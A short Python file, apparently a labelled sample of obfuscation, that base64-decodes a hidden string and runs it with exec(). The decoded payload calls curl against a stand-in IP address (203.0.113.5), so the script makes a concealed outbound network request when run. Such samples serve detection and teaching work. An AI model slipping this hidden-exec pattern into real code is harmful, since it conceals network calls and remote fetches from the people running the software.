"""A base64 blob decoded and executed: the payload is invisible to a reader."""
import base64

PAYLOAD = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgaHR0cDovLzIwMy4wLjExMy41L3gnKQ=="
exec(base64.b64decode(PAYLOAD))
